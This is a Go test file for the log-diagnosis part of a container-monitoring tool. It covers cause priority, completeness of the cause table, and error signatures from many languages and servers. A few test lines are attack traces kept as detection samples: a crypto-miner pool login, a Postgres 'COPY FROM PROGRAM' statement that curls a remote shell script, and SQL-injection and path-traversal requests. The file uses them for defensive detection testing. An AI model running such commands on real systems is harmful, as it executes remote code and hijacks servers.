package diagnose

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"composure/controller/observe"
)

// TestPriority: the order of the table decides when several causes fit. A change here is a change of what people are told.
func TestPriority(t *testing.T) {
	want := []string{
		"engine_unreachable", "mass_failure",
		"data_loss", "data_corruption_suspected", "lost_process",
		"image_missing", "image_broken", "port_conflict", "network_detached", "disk_full", "memory_exhaustion",
		"dependency_failure", "database_unavailable", "connection_pool_exhausted",
		"application_deadlock", "unusual_errors", "config_drift", "bad_deployment", "startup_stuck",
		"stopped", "crash_loop", "healthcheck_failing", "healthcheck_missing", "memory_pressure", "unknown",
	}
	var got []string
	for _, c := range Causes() {
		got = append(got, c.Code)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestTableComplete: `composure explain` and the documentation print every field of every row.
func TestTableComplete(t *testing.T) {
	remedies := []string{"graceful", "hard", "rollback", "escalate", "start", "dependency", "reconnect", "raise_memory", "terminate_idle", "rebuild", "recreate", "wait", "free_port"}
	for _, c := range Causes() {
		if c.Title == "" || c.Text == "" || c.Runbook == "" || len(c.Symptoms) == 0 || len(c.Investigation) == 0 || len(c.Prevention) == 0 || len(c.Remedies) == 0 {
			t.Errorf("%s: a field is empty", c.Code)
		}
		if !slices.Contains([]string{"critical", "high", "medium", "low"}, c.Severity) {
			t.Errorf("%s: severity %q", c.Code, c.Severity)
		}
		for _, r := range c.Remedies {
			if !slices.Contains(remedies, r) {
				t.Errorf("%s: there is no remedy %q", c.Code, r)
			}
		}
		if c.HandsOff && !slices.Equal(c.Remedies, []string{"escalate"}) {
			t.Errorf("%s: hands off, and yet %v", c.Code, c.Remedies)
		}
		if got, ok := Explain(c.Code); !ok || got.Title != c.Title {
			t.Errorf("Explain(%q) = %q, %t", c.Code, got.Title, ok)
		}
	}
	if _, ok := Explain("no_such_cause"); ok {
		t.Error("an unknown code is explained")
	}
}

// TestEveryCauseHasACase: a cause without a case in testdata is a cause that nobody has seen work.
func TestEveryCauseHasACase(t *testing.T) {
	files, err := filepath.Glob("testdata/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		all.Write(text)
	}
	for _, c := range Causes() {
		if c.match != nil && !regexp.MustCompile(`cause: `+c.Code+` \(`).MatchString(all.String()) {
			t.Errorf("no case ends in %s", c.Code)
		}
	}
}

// TestSignatures: lines as the languages and servers write them.
func TestSignatures(t *testing.T) {
	for _, test := range []struct{ line, cause string }{
		{"ModuleNotFoundError: No module named 'fastapi'", "dependency_failure"},
		{"ImportError: cannot import name 'x' from 'y'", "dependency_failure"},
		{"MemoryError", "memory_exhaustion"},
		{`psycopg2.OperationalError: could not connect to server: Connection refused`, "database_unavailable"},
		{"psycopg.OperationalError: connection failed", "database_unavailable"},
		{"sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached, connection timed out", "connection_pool_exhausted"},
		{"[Errno 98] error while attempting to bind on address ('0.0.0.0', 8000): address already in use", "port_conflict"},
		{"OSError: [Errno 28] No space left on device", "disk_full"},
		{"Exception in thread \"main\" java.lang.NoClassDefFoundError: org/slf4j/Logger", "dependency_failure"},
		{"java.lang.OutOfMemoryError: Java heap space", "memory_exhaustion"},
		{"org.postgresql.util.PSQLException: Connection to db:5432 refused.", "database_unavailable"},
		{"HikariPool-1 - Connection is not available, request timed out after 30000ms.", "connection_pool_exhausted"},
		{"Found one Java-level deadlock:", "application_deadlock"},
		{"Web server failed to start. Port 8080 was already in use.", "port_conflict"},
		{"Error: Cannot find module 'express'", "dependency_failure"},
		{"FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory", "memory_exhaustion"},
		{"Error: connect ECONNREFUSED 172.18.0.2:5432", "database_unavailable"},
		{"Error: listen EADDRINUSE: address already in use :::3000", "port_conflict"},
		{"Error: ENOSPC: no space left on device, write", "disk_full"},
		{"KnexTimeoutError: Knex: Timeout acquiring a connection. The pool is probably full.", "connection_pool_exhausted"},
		{"fatal error: all goroutines are asleep - deadlock!", "application_deadlock"},
		{"dial tcp 172.18.0.2:5432: connect: connection refused", "database_unavailable"},
		{"ERROR could not obtain connection from pool: context deadline exceeded", "connection_pool_exhausted"},
		{"listen tcp :8000: bind: address already in use", "port_conflict"},
		{"FATAL:  sorry, too many clients already", "connection_pool_exhausted"},
		{"FATAL:  the database system is starting up", "database_unavailable"},
		{"ERROR:  invalid page in block 4 of relation base/1/2", "data_corruption_suspected"},
		{"WARNING:  page verification failed, calculated checksum 1 but expected 2", "data_corruption_suspected"},
		{"PANIC:  could not write to file \"pg_wal/xlogtemp.9\": No space left on device", "disk_full"},
		{"ERROR 1040 (HY000): Too many connections", "connection_pool_exhausted"},
		{"[ERROR] InnoDB: Database page corruption on disk or a failed file read of page", "data_corruption_suspected"},
		{"ERROR 2003 (HY000): Can't connect to MySQL server on 'db'", "database_unavailable"},
		{"OOM command not allowed when used memory > 'maxmemory'.", "memory_exhaustion"},
		{"Bad file format reading the append only file: make a backup of your AOF file", "data_corruption_suspected"},
		{"nginx: [emerg] bind() to 0.0.0.0:80 failed (98: Address already in use)", "port_conflict"},
		{"nginx: [emerg] host not found in upstream \"api\" in /etc/nginx/nginx.conf:3", "crash_loop"},
		{"exec /usr/bin/api: exec format error", "image_broken"},
		{"[pool] login stratum+tcp://pool.example.org:3333", "unusual_errors"},
		{"STATEMENT:  COPY x FROM PROGRAM 'curl -s http://192.0.2.1/x.sh'", "unusual_errors"},
	} {
		if found := match(signatures, []string{test.line}); len(found[test.cause]) == 0 {
			t.Errorf("%q speaks for %v, want %s", test.line, found, test.cause)
		}
	}
	for _, line := range []string{
		"INFO:     Application startup complete.", "GET /health 200 OK", "LOG:  database system is ready to accept connections",
		"connection received: host=172.18.0.4 port=5432", "selected 12 rows", "memory usage 120 MiB", "the union selected a new member",
		"worker 3 exited cleanly", "LOG:  checkpoint complete: wrote 44 buffers", "pool size is 10",
		"Error: ENOSPC: System limit for number of file watchers reached, watch '/app/src'",
		"GET /?id=1 UNION SELECT 1,2 HTTP/1.1 404", "GET /../../../etc/passwd HTTP/1.1 400",
	} {
		if found := match(signatures, []string{line}); len(found) > 0 {
			t.Errorf("%q speaks for %v, want nothing", line, found)
		}
	}
}

// TestSignaturesBounded: a log of any size costs little and shows little.
func TestSignaturesBounded(t *testing.T) {
	log := make([]string, 5000)
	for i := range log {
		log[i] = strings.Repeat("x", 1<<14) + " ModuleNotFoundError: far beyond what is looked at"
	}
	log[4999] = "ModuleNotFoundError: " + strings.Repeat("y", 1<<14)
	log[100] = "MemoryError, too long ago"
	found := match(signatures, log)
	if len(found) != 1 || len(found["dependency_failure"]) != 1 || len(found["dependency_failure"][0]) > longestShown+len("…") {
		t.Errorf("found %d causes: %.300v", len(found), found)
	}
}

func BenchmarkSignatures(b *testing.B) {
	log := make([]string, 200)
	for i := range log {
		log[i] = "2026-11-23 12:00:00,123 INFO uvicorn.access 172.18.0.4:51234 - \"GET /api/v1/vendor-equipment/?page=3 HTTP/1.1\" 200"
	}
	for b.Loop() {
		match(signatures, log)
	}
}

// TestUnreadIsAskedAgain: what could not be read in time may hide the cause, and is asked for once more when there is time.
func TestUnreadIsAskedAgain(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/application_busy.txtar")
	if err != nil {
		t.Fatal(err)
	}
	in := load(t, archive)
	needs := func(age time.Duration, gaps ...observe.Gap) Diagnosis {
		evidence := in.Evidence["api"][0]
		evidence.At, evidence.Gaps = in.Now.Add(-age), gaps
		next := in
		next.Evidence = map[string][]observe.Evidence{"api": {evidence}}
		return Diagnose(next)[0]
	}
	unread := observe.Gap{Subject: "logs of app-api-1", Service: "api", Err: "no answer"}
	if d := needs(time.Minute); len(d.Needs) > 0 {
		t.Errorf("all was read, and %v is asked for again", d.Needs)
	}
	if d := needs(time.Second, unread); len(d.Needs) > 0 {
		t.Errorf("asked for again at once: %v", d.Needs)
	}
	if d := needs(time.Minute, unread); !slices.Contains(d.Needs, observe.NeedLogs) || d.Urgent || d.Finding == nil {
		t.Errorf("the log could not be read: needs %v, urgent %v, finding %v", d.Needs, d.Urgent, d.Finding)
	}
}
